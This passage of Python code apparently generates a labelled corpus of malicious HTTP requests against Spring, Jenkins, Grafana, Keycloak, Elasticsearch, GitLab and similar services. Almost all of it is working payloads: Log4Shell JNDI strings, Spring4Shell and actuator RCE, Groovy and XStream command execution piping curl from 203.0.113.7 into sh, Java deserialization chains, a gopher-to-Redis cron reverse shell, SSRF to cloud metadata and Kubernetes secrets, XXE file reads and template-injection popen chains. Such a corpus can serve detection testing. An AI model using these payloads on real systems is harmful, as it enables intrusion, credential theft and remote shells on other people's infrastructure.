    c.add("log4shell-query-urlencoded", J, "GET", "/api/v1/orders?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%3A1389%2Fq%7D", H["spring"], [],
          ua=UA_TOOLS["go"])
    c.add("log4shell-request-id-env-nan", J, "GET", "/realms/platform/.well-known/openid-configuration", kc,
          [["X-Request-Id", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/e}"]], ua=UA_TOOLS["okhttp"])
    c.add("log4shell-search-hostname", J, "GET", "/search/?q=%24%7Bjndi%3Aldap%3A%2F%2F%24%7BhostName%7D.%24%7Bsys%3Ajava.version%7D.x.example.net%2Fh%7D",
          H["jenkins"], [], ua=ua_browser(), accept=HTML_ACCEPT)
    c.add("log4shell-es-unicode-escaped", J, "POST", "/_bulk", H["es"], [],
          '{"index":{"_index":"audit"}}\n{"user":"\\u0024\\u007bjndi:ldap://203.0.113.7/u\\u007d","action":"login"}\n',
          "application/x-ndjson", ua=UA_TOOLS["fluentbit"])
    sp = H["spring"]
    c.add("actuator-env-bootstrap-location", J, "POST", "/actuator/env", sp, [],
          js({"name": "spring.cloud.bootstrap.location", "value": "http://203.0.113.7/bootstrap.yml"}), "application/json", ua=UA_TOOLS["python"])
    c.add("actuator-env-legacy-form-eureka", J, "POST", "/env", sp, [],
          form([("eureka.client.serviceUrl.defaultZone", "http://203.0.113.7/xstream")]), "application/x-www-form-urlencoded", ua=UA_TOOLS["curl"])
    c.add("actuator-env-h2-connection-test", J, "POST", "/actuator/env", sp, [],
          js({"name": "spring.datasource.hikari.connection-test-query",
              "value": "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }'; CALL EXEC('curl http://203.0.113.7/h2');"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("actuator-env-logging-config", J, "POST", "/manage/env", sp, [],
          js({"name": "logging.config", "value": "http://203.0.113.7/logback.xml"}), "application/vnd.spring-boot.actuator.v3+json", ua=UA_TOOLS["curl"])
    c.add("gateway-routes-spel", J, "POST", "/actuator/gateway/routes/hacktest", H["gateway"], [],
          js({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result",
              "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
              "uri": "http://example.com"}), "application/json", ua=UA_TOOLS["python"])
    c.add("spring-cloud-function-routing", J, "POST", "/functionRouter", H["gateway"],
          [["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]],
          "data", "text/plain", ua=UA_TOOLS["curl"])
    c.add("spring4shell-classloader", J, "POST", "/orders/new", sp, [["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]],
          form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                 "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("jolokia-logback-reload-by-url", J, "GET",
          "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.7!/logback.xml",
          sp, [], ua=UA_TOOLS["curl"])
    c.add("h2-console-init-runscript", J, "POST", "/h2-console/login.do?jsessionid=" + hexs(32), sp, [],
          form([("language", "en"), ("setting", "Generic H2 (Embedded)"), ("name", "Generic H2 (Embedded)"),
                ("driver", "org.h2.Driver"), ("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.7/inject.sql'"),
                ("user", "sa"), ("password", "")]), "application/x-www-form-urlencoded")
    jk = H["jenkins"]
    c.add("jenkins-checkscript-grab", J, "GET",
          "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value="
          + q("@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://203.0.113.7/')\n@Grab(group='x', module='x', version='1')\nimport Payload;"),
          jk, [], ua=UA_TOOLS["python"])
    c.add("jenkins-asttest-checkscriptcompile", J, "POST",
          "/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile", jk, jenkins_hdrs("/job/x/configure"),
          form([("value", "@groovy.transform.ASTTest(value={ assert java.lang.Runtime.getRuntime().exec(\"curl http://203.0.113.7/a\") })\nclass X {}")]),
          "application/x-www-form-urlencoded")
    c.add("jenkins-stapler-unauth-groovy", J, "GET",
          "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public%20class%20x%20%7Bpublic%20x()%7B%22curl%20203.0.113.7%2Fs%22.execute()%7D%7D",
          jk, [], ua=UA_TOOLS["curl"])
    c.add("jenkins-createitem-xstream", J, "POST", "/createItem?name=x", jk, [["Authorization", "Basic " + b64("svc:11" + hexs(32))]],
          "<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class=\"java.beans.EventHandler\">\n"
          "      <target class=\"java.lang.ProcessBuilder\">\n        <command><string>sh</string><string>-c</string><string>curl 203.0.113.7/j|sh</string></command>\n"
          "      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n", "application/xml", ua=UA_TOOLS["python"])
    ser = java_ser_b64(["sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
                        "org.apache.commons.collections.functors.ChainedTransformer", "org.apache.commons.collections.functors.InvokerTransformer"],
                       "curl 203.0.113.7/d|sh")
    c.add("java-deser-cookie-commons-collections", J, "GET", "/console/home", sp, [["Cookie", "rememberMe=" + ser]], ua=ua_browser(), accept=HTML_ACCEPT)
    c.add("java-deser-json-field", J, "POST", "/api/v1/sessions/restore", sp, [bearer()],
          js({"state": java_ser_b64(["org.springframework.beans.factory.ObjectFactory", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], "id")}),
          "application/json", ua=UA_TOOLS["okhttp"])
    c.add("jackson-logback-jdbc-h2", J, "POST", "/api/v1/settings", sp, [bearer()],
          '["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.7/inject.sql\'"}]',
          "application/json", ua=UA_TOOLS["python"])
    c.add("fastjson-jdbcrowset", J, "POST", "/api/v1/orders/import", sp, [],
          js({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
              "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.7:1389/Exploit", "autoCommit": True}}),
          "application/json", ua=UA_TOOLS["python"])
    body, ct = multipart([("file", "spring:\n  application:\n    name: orders\nfeature: !!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://203.0.113.7/yaml-payload.jar\"]\n  ]]\n]\n",
                           "application.yml", "application/x-yaml")])
    c.add("snakeyaml-config-upload", J, "POST", "/admin/config/upload", sp, [bearer()], body, ct)
    c.add("es-groovy-script-fields", J, "POST", "/_search?pretty", H["es"], [],
          js({"size": 1, "script_fields": {"x": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("es-mvel-script", J, "GET", "/_search?source=" + q(js({"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
                                                                  "script_fields": {"x": {"script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"cat /etc/passwd\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}})),
          H["es"], [], ua=UA_TOOLS["python"])
    c.add("confluence-ognl-path", J, "GET",
          "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
          H["confluence"], [], ua=UA_TOOLS["python"], accept="*/*")


def atk_ssrf(c):
    S = "ssrf"
    g = H["grafana"]
    c.add("grafana-datasource-imds-url", S, "POST", "/api/datasources", g, grafana_hdrs("/connections/datasources/new"),
          js({"name": "prom-eu", "type": "prometheus", "access": "proxy",
              "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "basicAuth": False, "isDefault": False}),
          "application/json")
    c.add("grafana-avatar-redirect", S, "GET",
          "/avatar/test%3fd%3dredirect.example.net%25253f%253b%252f169.254.169.254%252flatest%252fmeta-data%253f", g, [],
          ua=UA_TOOLS["curl"], accept="image/*")
    c.add("grafana-infinity-kube-secrets", S, "POST", "/api/ds/query?ds_type=yesoreyeram-infinity-datasource&requestId=Q201", g,
          grafana_hdrs("/explore"),
          js({"queries": [{"refId": "A", "datasource": {"type": "yesoreyeram-infinity-datasource", "uid": "infinity"},
                           "type": "json", "source": "url", "format": "table", "parser": "backend",
                           "url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "url_options": {"method": "GET"}}],
              "from": str((EPOCH - 3600) * 1000), "to": str(EPOCH * 1000)}), "application/json")
    c.add("grafana-contact-point-test-gce", S, "POST", "/api/alertmanager/grafana/config/api/v1/receivers/test", g, grafana_hdrs("/alerting/notifications"),
          js({"receivers": [{"name": "t", "grafana_managed_receiver_configs": [{"name": "t", "type": "webhook",
              "settings": {"url": "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token", "httpMethod": "GET"}}]}]}),
          "application/json")
    c.add("blackbox-probe-imds", S, "GET", "/probe?target=http://169.254.169.254/latest/meta-data/iam/security-credentials/&module=http_2xx&debug=true",
          H["bbox"], [], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("blackbox-probe-ipv6-imds", S, "GET", "/probe?module=http_2xx&target=" + q("http://[fd00:ec2::254]/latest/api/token"),
          H["bbox"], [], ua=UA_TOOLS["python"], accept="*/*")
    c.add("argocd-repo-gce-token", S, "POST", "/api/v1/repositories?upsert=false&credsOnly=false", H["argocd"],
          xhr(H["argocd"], "/settings/repos", argocd_cookie()),
          js({"type": "helm", "name": "charts", "repo": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}),
          "application/json")
    c.add("argocd-app-redis-repo", S, "POST", "/api/v1/applications", H["argocd"], xhr(H["argocd"], "/applications", argocd_cookie()),
          js({"metadata": {"name": "probe"}, "spec": {"project": "default", "source": {"repoURL": "http://argocd-redis.argocd.svc.cluster.local:6379/",
                                                                                     "path": ".", "targetRevision": "HEAD"},
                                                       "destination": {"server": "https://kubernetes.default.svc", "namespace": "default"}}}),
          "application/json")
    c.add("argowf-http-template-azure-imds", S, "POST", "/api/v1/workflows/argo", H["argowf"], [bearer()],
          js({"workflow": {"metadata": {"generateName": "http-"}, "spec": {"entrypoint": "h", "templates": [{"name": "h", "http": {
              "url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
              "headers": [{"name": "Metadata", "value": "true"}]}}]}}}), "application/json", ua=UA_TOOLS["go"])
    c.add("jenkins-github-token-apiurl", S, "POST",
          "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.github.config.GitHubTokenCredentialsCreator/createTokenByPassword?apiUrl=http://169.254.169.254/%23&login=x&password=x",
          H["jenkins"], [], "", "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("jenkins-git-checkurl-etcd", S, "GET",
          "/descriptorByName/hudson.plugins.git.UserRemoteConfig/checkUrl?value=http%3A%2F%2F10.0.0.1%3A2379%2Fv2%2Fkeys%2F%3Frecursive%3Dtrue&credentialsId=",
          H["jenkins"], jenkins_hdrs("/job/x/configure"))
    c.add("gitlab-ci-lint-remote-include", S, "POST", "/api/v4/ci/lint", H["gitlab"], [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"include_merged_yaml": True, "content": "include:\n  remote: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("gitlab-import-url-alibaba", S, "POST", "/api/v4/projects", H["gitlab"], [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"name": "mirror", "import_url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}), "application/json",
          ua=UA_TOOLS["python"])
    c.add("gitea-migrate-short-loopback", S, "POST", "/api/v1/repos/migrate", H["gitea"], [["Authorization", "token " + hexs(40)]],
          js({"clone_addr": "http://127.1:8500/v1/agent/self", "repo_name": "m", "service": "git", "mirror": False}), "application/json",
          ua=UA_TOOLS["go"])
    c.add("harbor-registry-octal-imds", S, "POST", "/api/v2.0/registries", H["harbor"], xhr(H["harbor"], "/harbor/registries", "sid=" + hexs(32)),
          js({"name": "mirror", "type": "docker-registry", "url": "http://0251.0376.0251.0376/latest/meta-data/", "insecure": True}),
          "application/json")
    c.add("harbor-registry-ping-decimal", S, "POST", "/api/v2.0/registries/ping", H["harbor"], xhr(H["harbor"], "/harbor/registries", "sid=" + hexs(32)),
          js({"type": "docker-registry", "url": "http://2852039166/latest/user-data", "insecure": True}), "application/json")
    c.add("keycloak-request-uri", S, "GET",
          "/realms/master/protocol/openid-connect/auth?scope=openid&response_type=code&redirect_uri=https%3A%2F%2Fsso.example.com%2F&state=x&nonce=y&client_id=security-admin-console&request_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
          H["keycloak"], [], ua=UA_TOOLS["curl"], accept=HTML_ACCEPT)
    c.add("keycloak-idp-import-config", S, "POST", "/admin/realms/platform/identity-provider/import-config", H["keycloak"], [bearer()],
          js({"providerId": "oidc", "fromUrl": "http://169.254.169.254/latest/user-data"}), "application/json", ua=UA_TOOLS["keycloak-js"])
    c.add("kibana-vega-url-kube-api", S, "POST", "/api/saved_objects/visualization", H["kibana"], kibana_hdrs("/app/visualize"),
          js({"attributes": {"title": "nodes", "visState": js({"type": "vega", "params": {"spec": js({
              "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
              "data": {"url": "http://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets", "format": {"property": "items"}},
              "mark": "text"})}})}}), "application/json")
    c.add("gateway-route-to-imds", S, "POST", "/actuator/gateway/routes/meta", H["gateway"], [],
          js({"id": "meta", "uri": "http://169.254.169.254/", "predicates": [{"name": "Path", "args": {"_genkey_0": "/meta/**"}}], "order": 0}),
          "application/json", ua=UA_TOOLS["python"])
    nd, go = H["node"], H["go"]
    for slug, url in [
        ("preview-ipv4-mapped-ipv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("preview-hex-ip", "http://0xa9fea9fe/latest/user-data"),
        ("preview-userinfo-confusion", "http://example.com@169.254.169.254/latest/meta-data/iam/"),
        ("preview-backslash-confusion", "http://169.254.169.254\\@example.com/latest/meta-data/"),
        ("preview-file-sa-token", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("preview-envoy-admin", "http://127.0.0.1:15000/config_dump?include_eds"),
        ("preview-kubelet-readonly", "http://localhost:10255/pods"),
        ("preview-zero-host", "http://0:10250/pods"),
        ("preview-ipv6-unspecified", "http://[::]:8500/v1/acl/tokens"),
    ]:
        c.add("node-" + slug, S, "GET", "/api/link-preview?url=" + q(url, safe=":/") if RNG.random() < 0.5 else "/api/link-preview?url=" + q(url),
              nd, [bearer()], ua=ua_browser())
    c.add("go-fetch-gopher-redis", S, "POST", "/v1/import/fetch", go, [bearer()],
          js({"source": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-c%20%22sh%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.7%2F1234%200%3E%261%22%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A%2Fvar%2Fspool%2Fcron%2F%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("go-fetch-dict-memcached", S, "GET", "/v1/import/fetch?source=dict://127.0.0.1:11211/stats", go, [bearer()], ua=UA_TOOLS["curl"])
    c.add("go-fetch-etcd-svc", S, "GET", "/v1/import/fetch?source=" + q("http://etcd-0.etcd.kube-system.svc.cluster.local:2379/v2/keys/?recursive=true"),
          go, [bearer()], ua=UA_TOOLS["curl"])
    c.add("go-fetch-vault-loopback", S, "POST", "/v1/import/fetch", go, [bearer()],
          form([("source", "http://127.0.0.1:8200/v1/sys/raw/logical"), ("format", "json")]), "application/x-www-form-urlencoded", ua=UA_TOOLS["go"])
    c.add("go-webhook-target-kube-api", S, "POST", "/v1/integrations", go, [bearer()],
          js({"kind": "webhook", "target": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "events": ["item.created"]}),
          "application/json", ua=UA_TOOLS["node"])
    c.add("consul-http-check-imds", S, "PUT", "/v1/agent/check/register", H["consul"], [],
          js({"Name": "meta", "HTTP": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Interval": "10s"}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("report-render-iframe-imds", S, "POST", "/api/admin/reports/render", nd, [bearer()],
          js({"format": "pdf", "html": "<h1>Q2</h1><iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"1000\" height=\"1000\"></iframe>"}),
          "application/json")
    c.add("node-metadata-short-name", S, "GET", "/api/link-preview?url=http%3A%2F%2Fmetadata%2FcomputeMetadata%2Fv1%2Fproject%2Fproject-id", nd,
          [bearer()], ua=ua_browser())


def saml_response_xml(doctype):
    return ('<?xml version="1.0" encoding="UTF-8"?>' + doctype +
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
            'ID="_%s" Version="2.0" IssueInstant="%s" Destination="https://sso.example.com/realms/platform/broker/corp-adfs/endpoint">'
            '<saml:Issuer>&xxe;</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
            '</samlp:Response>' % (hexs(32), iso(EPOCH)))


def atk_xxe(c):
    X = "xxe"
    jk = H["jenkins"]
    c.add("jenkins-createitem-file-entity", X, "POST", "/createItem?name=nightly", jk, [["Authorization", "Basic " + b64("ci:11" + hexs(32))]],
          "<?xml version='1.1' encoding='UTF-8'?>\n<!DOCTYPE project [<!ENTITY xxe SYSTEM \"file:///var/jenkins_home/secrets/master.key\">]>\n"
          "<project><description>&xxe;</description><builders/></project>\n", "application/xml", ua=UA_TOOLS["curl"])
    c.add("jenkins-config-xml-param-entity-oob", X, "POST", "/job/deploy-api/config.xml", jk, [["Authorization", "Basic " + b64("ci:11" + hexs(32))]],
          "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % dtd SYSTEM \"http://203.0.113.7/evil.dtd\"> %dtd; %send;]>\n<project><description>x</description></project>\n",
          "text/xml; charset=UTF-8", ua=UA_TOOLS["python"])
    c.add("jenkins-config-jar-entity", X, "POST", "/job/deploy-api/config.xml", jk, [["Authorization", "Basic " + b64("ci:11" + hexs(32))]],
          "<?xml version=\"1.0\"?>\n<!DOCTYPE project [<!ENTITY j SYSTEM \"jar:http://203.0.113.7/x.zip!/payload.txt\">]>\n<project><description>&j;</description></project>\n",
          "application/xml", ua=UA_TOOLS["curl7"])
    c.add("jenkins-install-plugins-xxe", X, "POST", "/pluginManager/installNecessaryPlugins", jk, jenkins_hdrs("/manage/pluginManager/"),
          "<!DOCTYPE jenkins [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<jenkins><install plugin=\"git@current\">&x;</install></jenkins>",
          "text/xml")
    kc = H["keycloak"]
    c.add("keycloak-saml-response-b64", X, "POST", "/realms/platform/broker/corp-adfs/endpoint", kc, nav("https://adfs.example.net/"),
          form([("SAMLResponse", b64(saml_response_xml('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///opt/keycloak/conf/keycloak.conf">]>'))),
                ("RelayState", alnum(22))]), "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    req = ('<!DOCTYPE x [<!ENTITY %% r SYSTEM "http://203.0.113.7/saml.dtd"> %%r;]><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" '
           'ID="_%s" Version="2.0" IssueInstant="%s" AssertionConsumerServiceURL="https://grafana.ops.example.com/saml/acs">'
           '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">grafana</saml:Issuer></samlp:AuthnRequest>' % (hexs(32), iso(EPOCH)))
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflated.compress(req.encode()) + deflated.flush()
    c.add("keycloak-saml-redirect-deflated", X, "GET", "/realms/platform/protocol/saml?SAMLRequest=" + q(b64(raw)) + "&RelayState=" + alnum(16),
          kc, nav(), accept=HTML_ACCEPT)
    c.add("keycloak-saml-post-raw-xml", X, "POST", "/realms/platform/protocol/saml", kc, [],
          '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:NameID xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&xxe;</saml:NameID></samlp:LogoutRequest>',
          "application/xml", ua=UA_TOOLS["python"])
    c.add("spring-xinclude", X, "POST", "/api/v1/orders", H["spring"], [bearer()],
          '<order xmlns:xi="http://www.w3.org/2001/XInclude"><id>1</id><note><xi:include parse="text" href="file:///etc/passwd"/></note></order>',
          "application/xml", ua=UA_TOOLS["okhttp"])
    c.add("spring-content-type-switch-netdoc", X, "POST", "/api/v1/orders", H["spring"], [bearer()],
          '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY n SYSTEM "netdoc:///proc/self/environ">]>\n<order><customer>&n;</customer><qty>1</qty></order>',
          "application/xml", ua=UA_TOOLS["python"])
    body, ct = multipart([("avatar", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///data/gitea/conf/app.ini">]>'
                                      '<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="20">&xxe;</text></svg>',
                           "avatar.svg", "image/svg+xml"), ("source", "local", None, None)])
    c.add("gitea-avatar-svg-xxe", X, "POST", "/user/settings/avatar", H["gitea"],
          nav("https://%s/user/settings" % H["gitea"], "i_like_gitea=%s; _csrf=%s" % (hexs(16), alnum(28))), body, ct, accept=HTML_ACCEPT)
    c.add("notify-soap-billion-laughs", X, "POST", "/services/NotificationService", H["notify"], [["SOAPAction", "\"urn:send\""]],
          '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
          '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n'
          '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><send><msg>&lol4;</msg></send></soap:Body></soap:Envelope>',
          "text/xml; charset=utf-8", ua=UA_TOOLS["java"])
    c.add("nexus-pom-upload-xxe", X, "PUT", "/repository/maven-releases/com/example/orders/1.4.0/orders-1.4.0.pom", "nexus.platform.example.com",
          [["Authorization", "Basic " + b64("deploy:" + alnum(16))]],
          '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE project [<!ENTITY % ext SYSTEM "http://203.0.113.7/x.dtd"> %ext;]>\n'
          '<project><modelVersion>4.0.0</modelVersion><groupId>com.example</groupId><artifactId>orders</artifactId><version>1.4.0</version></project>\n',
          "application/xml", ua="Apache-Maven/3.9.6 (Java 17.0.11; Linux 6.5.0)")


def alert_payload(annotations, labels=None, receiver="ops-webhook"):
    labels = labels or {"alertname": "KubePodCrashLooping", "namespace": "payments", "severity": "warning"}
    return js({"receiver": receiver, "status": "firing", "version": "4", "groupKey": "{}:{alertname=\"%s\"}" % labels.get("alertname", "x"),
               "truncatedAlerts": 0, "externalURL": "https://%s" % H["am"],
               "groupLabels": {"alertname": labels.get("alertname", "x")}, "commonLabels": labels, "commonAnnotations": annotations,
               "alerts": [{"status": "firing", "labels": labels, "annotations": annotations, "startsAt": iso(EPOCH - 600, True),
                           "endsAt": "0001-01-01T00:00:00Z", "generatorURL": "https://%s/graph?g0.expr=up" % H["prom"],
                           "fingerprint": hexs(16)}]})


def atk_ssti(c):
    T = "ssti"
    nt = H["notify"]
    amh = [["X-Alertmanager-Receiver", "ops-webhook"]]
    for slug, ann in [
        ("jinja-cycler-popen", {"summary": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
        ("jinja-lipsum-sa-token", {"description": "{{ lipsum.__globals__['os'].popen('cat /var/run/secrets/kubernetes.io/serviceaccount/token').read() }}"}),
        ("jinja-self-builtins-import", {"runbook_url": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"}),
        ("jinja-subclasses-loop", {"summary": "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"}),
        ("jinja-attr-hex-bypass", {"summary": "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"}),
    ]:
        c.add("alert-receiver-" + slug, T, "POST", "/alertmanager/webhook", nt, amh, alert_payload(ann), "application/json",
              ua=UA_TOOLS["alertmanager"])
    c.add("alert-receiver-tornado-import", T, "POST", "/api/v1/templates/preview", nt, [bearer()],
          js({"template": "{% import os %}{{ os.popen(\"id\").read() }}", "engine": "tornado"}), "application/json")
    c.add("alert-receiver-mako", T, "POST", "/api/v1/templates/preview", nt, [bearer()],
          js({"template": "${self.module.cache.util.os.system(\"id\")}", "engine": "mako"}), "application/json")
    c.add("awx-extra-vars-lookup-pipe", T, "POST", "/api/v2/job_templates/14/launch/", H["awx"], [bearer()],
          js({"extra_vars": {"target_env": "{{ lookup('pipe', 'cat /etc/passwd') }}", "version": "1.4.2"}}), "application/json",
          ua=UA_TOOLS["python"])
    c.add("go-sprig-env", T, "POST", "/v1/notifications/templates/preview", H["go"], [bearer()],
          js({"name": "slack", "body": "{{ env \"VAULT_TOKEN\" }} {{ expandenv \"$AWS_SECRET_ACCESS_KEY\" }}"}), "application/json", ua=UA_TOOLS["curl"])
    c.add("gomplate-file-read", T, "POST", "/v1/notifications/templates/preview", H["go"], [bearer()],
          js({"name": "email", "body": "{{ file.Read \"/var/run/secrets/kubernetes.io/serviceaccount/token\" }}"}), "application/json", ua=UA_TOOLS["go"])
    c.add("argocd-helm-param-lookup", T, "PATCH", "/api/v1/applications/payments", H["argocd"], xhr(H["argocd"], "/applications/payments", argocd_cookie()),
          js({"name": "payments", "patchType": "merge", "patch": js({"spec": {"source": {"helm": {"parameters": [
              {"name": "config.extra", "value": "{{ (lookup \"v1\" \"Secret\" \"argocd\" \"argocd-secret\").data | toJson }}"}]}}}})}),
          "application/json")
    c.add("freemarker-execute", T, "PUT", "/admin/realms/platform/email-templates/verify", H["keycloak"], [bearer()],
          js({"subject": "Verify", "html": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}), "application/json",
          ua=UA_TOOLS["keycloak-js"])
    c.add("velocity-runtime", T, "POST", "/api/v1/notifications/preview", H["spring"], [bearer()],
          form([("template", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")")]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("thymeleaf-view-name", T, "GET", "/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x", H["spring"], [],
          ua=UA_TOOLS["curl"], accept=HTML_ACCEPT)
    c.add("jenkins-email-ext-groovy-template", T, "POST", "/job/deploy-api/configSubmit", H["jenkins"], jenkins_hdrs("/job/deploy-api/configure"),
          form([("json", js({"publisher": {"defaultContent": "<% def p = \"cat /var/jenkins_home/secrets/master.key\".execute(); out << p.text %>"}}))]),
